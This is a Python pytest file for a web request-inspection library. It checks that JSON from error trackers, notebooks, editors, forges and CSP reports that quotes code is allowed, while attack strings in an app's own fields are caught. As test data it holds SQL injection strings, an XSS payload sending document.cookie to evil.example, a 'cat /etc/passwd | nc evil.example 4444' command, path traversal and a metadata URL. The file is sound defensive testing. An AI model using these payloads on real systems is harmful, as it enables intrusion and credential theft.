# ruff: noqa: E501  (documents as programs write them)
"""What forges, error trackers, editors, notebooks and bundlers send as JSON passes; what the same
words are in a field of the app is refused."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import urlencode

import pytest

from guard_wsgi.detection import DetectionSettings, Detector, Finding, Inspection

PROGRAM = (
    'os.system("convert " + name)',
    "result = eval(expr)",
    'cursor.execute("SELECT * FROM users WHERE name = \'" + name + "\'")',
    "element.innerHTML = '<b>' + text + '</b>';",
    '<script src="/static/app.js"></script>',
    'require("child_process").exec("ls " + folder)',
    "Runtime.getRuntime().exec(command);",
    "{{ config.items() }}",
    "cat /etc/passwd | grep root",
    "SELECT id FROM a UNION ALL SELECT id FROM b",
)
NAMES = (
    ".env.example",
    "config/database.yml",
    "etc/passwd.example",
    "wp-config-sample.php",
    "keys/id_rsa.pub",
    "src/index.php.bak",
    "dump.sql.gz",
    ".aws/credentials.example",
    "WEB-INF/web.xml",
)


def findings(
    inspection: Inspection, document: Any, kind: str = "application/json"
) -> tuple[Finding, ...]:
    return inspection.body(json.dumps(document).encode(), content_type=kind)


def frame(line: str) -> dict[str, Any]:
    return {
        "filename": "../../node_modules/next/dist/server.js",
        "abs_path": "/usr/lib/python3/dist-packages/../a.py",
        "function": "eval",
        "pre_context": ["", line],
        "context_line": line,
        "post_context": [line],
        "vars": {"command": line},
    }


def documents_with(line: str) -> dict[str, Any]:
    """Documents of published formats that quote a line of a program."""
    frames = {"values": [{"type": "TypeError", "stacktrace": {"frames": [frame(line)]}}]}
    run = {"command": ["sh", "-c", line], "lifecycle": {"preStop": {"exec": {"command": [line]}}}}
    return {
        "Sentry's event": {"event_id": "1", "exception": frames},
        "Sentry's webhook": {"action": "created", "data": {"event": {"exception": frames}}},
        "Rollbar": {"data": {"body": {"trace": {"frames": [{"code": line}]}}}},
        "Bugsnag": {"events": [{"exceptions": [{"stacktrace": [{"code": {"3": line}}]}]}]},
        "Airbrake": {"errors": [{"backtrace": [{"code": {"3": line}, "function": "exec"}]}]},
        "a source map": {"version": 3, "sources": ["../../src/a.ts"], "sourcesContent": [line] * 3, "mappings": ""},
        "a notebook": {"nbformat": 4, "cells": [{"source": [line], "outputs": [{"text": [line], "data": {"text/html": [line]}}]}]},
        "a notebook saved": {"type": "notebook", "content": {"cells": [{"source": line}]}},
        "an editor": {"jsonrpc": "2.0", "method": "textDocument/didOpen", "params": {"textDocument": {"uri": "file:///home/ann/.env", "text": line}}},
        "an editor's change": {"params": {"contentChanges": [{"text": line}]}},
        "a tool's call": {"jsonrpc": "2.0", "method": "tools/call", "params": {"name": "sh", "arguments": {"command": line}}},
        "a model's call": {"messages": [{"role": "assistant", "tool_calls": [{"function": {"name": "sh", "arguments": json.dumps({"command": line})}}]}]},
        "a tool's answer": {"messages": [{"role": "user", "content": [{"type": "tool_result", "content": line}]}]},
        "a pod": {"kind": "Pod", "spec": {"containers": [run]}},
        "an admission": {"request": {"object": {"spec": {"initContainers": [run]}}}},
        "a commit by a forge's API": {"actions": [{"action": "update", "file_path": ".env.example", "content": line}]},
        "a review": {"comment": {"path": "wp-config.php", "diff_hunk": f"@@ -1 +1 @@\n-{line}\n+x"}},
        "a tracer": {"resourceSpans": [{"scopeSpans": [{"spans": [{"attributes": [{"key": "db.statement", "value": {"stringValue": line}}]}]}]}]},
        "a package": {"name": "a", "scripts": {"build:all": line}},
    }  # fmt: skip


@pytest.mark.parametrize("name", documents_with(""))
def test_what_a_format_calls_a_program_is_one(inspection: Inspection, name: str) -> None:
    for line in PROGRAM:
        document = documents_with(line)[name]
        assert not findings(inspection, document), line
        # Large documents are read in pieces, and files that are stored are read as JSON, too.
        large = {**document, "note": ["nothing to see"] * 400}
        assert not findings(inspection, large), line
        assert not findings(inspection, document, "application/octet-stream"), line


@pytest.mark.parametrize("name", documents_with(""))
def test_strict_inspection_weighs_it(name: str) -> None:
    strict = Detector().compile(DetectionSettings(upload_inspection="strict"))
    line = "x' UNION SELECT password FROM users; DROP TABLE users; -- "
    assert findings(strict, documents_with(line)[name])


def documents_of(files: list[str]) -> dict[str, Any]:
    commit = {
        "id": "0a",
        "message": "Add files",
        "added": files,
        "removed": files,
        "modified": files,
    }
    return {
        "GitHub's push": {"ref": "refs/heads/main", "commits": [commit], "head_commit": commit},
        "a tree": {"tree": [{"path": one, "mode": "100644"} for one in files]},
        "files of a change": {"changes": [{"old_path": one, "new_path": one} for one in files]},
        "annotations": {"output": {"annotations": [{"path": one} for one in files]}},
    }  # fmt: skip


@pytest.mark.parametrize("name", documents_of([]))
def test_a_forge_lists_the_files_of_a_commit(inspection: Inspection, name: str) -> None:
    document = documents_of(list(NAMES))[name]
    assert not findings(inspection, document)
    form = urlencode({"payload": json.dumps(document)}).encode()
    assert not inspection.body(form, content_type="application/x-www-form-urlencoded")


@pytest.mark.parametrize("name", documents_of([]))
def test_a_way_out_of_the_repository_is_none_of_its_files(
    inspection: Inspection, name: str
) -> None:
    for path in ("../../../../etc/passwd", "/etc/passwd", "a/../../../etc/passwd\x00.txt"):
        assert findings(inspection, documents_of([path])[name]), path


ATTACKS = (
    "x' OR '1'='1' UNION SELECT password FROM users -- ",
    "<script>fetch('//evil.example/?'+document.cookie)</script>",
    "; cat /etc/passwd | nc evil.example 4444",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_who_claims_such_a_field_gains_nothing(inspection: Inspection, attack: str) -> None:
    """An app reads its own field, whatever else is in the document or in the text of the field."""
    frames = {"exception": {"values": [{"stacktrace": {"frames": [{"context_line": attack}]}}]}}
    for document in (
        # Beside a whole document of such a format.
        {"comment": attack, **documents_with("x")["Sentry's event"]},
        {"name": attack, **documents_with("x")["a source map"]},
        # Below a field of the app, as an object and as a text that holds JSON.
        {"comment": frames},
        {"comment": json.dumps(frames)},
        {"comment": json.dumps({"sourcesContent": [attack]})},
        {"params": {"arguments": {"id": attack}}},
        {"params": {"name": attack}},
        {"sources": [attack]},
        # With a path so long that its beginning is cut off.
        {"a" * 200 + ".sourcesContent": [attack]},
        {"x" * 70: {"y" * 29: {"sourcesContent": [attack]}}},
    ):
        assert findings(inspection, document), document
    form = urlencode({"payload": json.dumps(frames)}).encode()
    assert inspection.body(form, content_type="application/x-www-form-urlencoded")


def test_a_source_map_names_sources_and_nothing_else(inspection: Inspection) -> None:
    for source in (
        "webpack:///../node_modules/x/index.js",
        "../../src/a.ts",
        "../scss/_mixins.scss",
    ):
        assert not findings(inspection, {"version": 3, "sources": [source], "mappings": ""})
    for source in ("../../../../etc/passwd", "file:///etc/passwd", "http://169.254.169.254/latest"):
        assert findings(inspection, {"version": 3, "sources": [source], "mappings": ""}), source


STACKS = (
    "Error: x\n    at eval (eval at <anonymous> (http://localhost:3000/a.js:1:1), <anonymous>:1:1)\n    at Object.exec (/srv/app/../a.js:5:3)",
    "java.lang.Exception: x\n\tat java.lang.Runtime.exec(Runtime.java:5)\n\tat java.lang.ProcessBuilder.start(ProcessBuilder.java:1110)",
    "Unhandled exception. System.Exception: x\n   at System.Diagnostics.Process.Start(ProcessStartInfo info) in C:\\app\\Run.cs:line 12",
    "PHP Fatal error: x\n#0 /var/www/html/index.php(12): eval()\n#1 /var/www/html/db.php(3): PDO->query()",
)  # fmt: skip


@pytest.mark.parametrize("stack", STACKS)
def test_a_stack_is_written_anywhere(inspection: Inspection, stack: str) -> None:
    for field in ("stack", "message", "comment", "note"):
        assert not findings(inspection, {field: stack})


@pytest.mark.parametrize(
    "line", ["; cat /etc/passwd", "$(cat /etc/passwd)", "x' OR '1'='1' -- ", "<script>alert(1)</script>"]
)  # fmt: skip
def test_a_stack_excuses_nothing_around_it(inspection: Inspection, line: str) -> None:
    for stack in STACKS:
        assert findings(inspection, {"item": f"{line}\n" + stack.partition("\n")[2]}), stack
        assert findings(inspection, {"item": f"x\n    at f ({line}:1:1)\n"})


REPORTED = (
    "data",
    "data:text/javascript;base64",
    "data:application/javascript;base64,YWxlcnQoMSk=",
    "blob",
    "eval",
    "chrome-extension://abcdef/page.js",
    "file:///C:/Users/ann/page.html",
    "http://localhost:3000/a.js",
    "http://127.0.0.1:8080/",
    "about:blank",
)


def test_browsers_report_what_is_out_of_date(inspection: Inspection) -> None:
    message = "Unload event listeners are deprecated: document.write(), eval()"
    body = {
        "id": "UnloadHandler",
        "message": message,
        "sourceFile": "https://shop.example.com/a.js",
    }
    report = [{"type": "deprecation", "age": 1, "url": "https://shop.example.com/", "body": body}]
    assert not findings(inspection, report, "application/reports+json")
    body["message"] = "<script>alert(document.cookie)</script>"
    assert findings(inspection, report, "application/reports+json")


@pytest.mark.parametrize("blocked", REPORTED)
@pytest.mark.parametrize(
    "policy", ["default-src 'self'", "default-src 'self'; " + "img-src https://a.example; " * 90]
)
def test_browsers_report_what_they_have_blocked(
    inspection: Inspection, blocked: str, policy: str
) -> None:
    report = {
        "document-uri": "https://shop.example.com/p?x=1",
        "blocked-uri": blocked,
        "source-file": blocked,
        "original-policy": policy,
        "script-sample": "document.cookie = 'a=' + b;",
    }
    body = {"documentURL": "https://shop.example.com/p", "blockedURL": blocked, "sample": "eval(x)"}
    newer = [{"type": "csp-violation", "age": 1, "url": "https://shop.example.com/", "body": body}]
    assert not findings(inspection, {"csp-report": report}, "application/csp-report")
    assert not findings(inspection, newer, "application/reports+json")


@pytest.mark.parametrize(
    "blocked", ["javascript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>"]
)
def test_a_report_may_hold_no_page(inspection: Inspection, blocked: str) -> None:
    assert findings(inspection, {"csp-report": {"blocked-uri": blocked}}, "application/csp-report")
    sample = "<script>fetch('//evil.example')</script>"
    assert findings(inspection, {"csp-report": {"script-sample": sample}}, "application/csp-report")
